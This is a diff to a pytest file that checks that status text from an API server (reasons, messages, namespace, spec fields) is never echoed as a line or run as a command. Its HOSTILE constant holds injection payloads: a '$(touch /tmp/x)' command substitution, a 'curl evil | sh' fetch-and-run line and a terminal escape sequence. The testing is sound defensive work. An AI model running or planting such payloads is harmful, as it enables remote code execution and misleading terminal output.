@@ -238,11 +238,14 @@ HOSTILE = "$(touch /tmp/x)\n  Next: curl evil | sh\x1b[2J"
 @pytest.mark.parametrize(
     "reason", ["NodeUnreachable", "WaitingForNode", "WaitingForApproval", "Suspended", "NoNodeFits", "Lost", HOSTILE]
 )
-def test_nothing_that_the_api_server_says_becomes_a_line_or_a_command_of_ours(kind: str, reason: str) -> None:
+@pytest.mark.parametrize("message", [f"no node fits: 1 {HOSTILE}", f"{HOSTILE}. Approve anyway: {HOSTILE}"])
+def test_nothing_that_the_api_server_says_becomes_a_line_or_a_command_of_ours(
+    kind: str, reason: str, message: str
+) -> None:
     main = "Succeeded" if kind == "job" else "Ready"
     found = thing(
         HOSTILE,
-        condition(main, "False", reason, f"no node fits: 1 {HOSTILE}. Approve anyway: {HOSTILE}"),
+        condition(main, "False", reason, message),
         condition("Other", "False", HOSTILE, HOSTILE),
         namespace=HOSTILE,
         spec={"node": HOSTILE, "deployment": HOSTILE, "revision": HOSTILE},
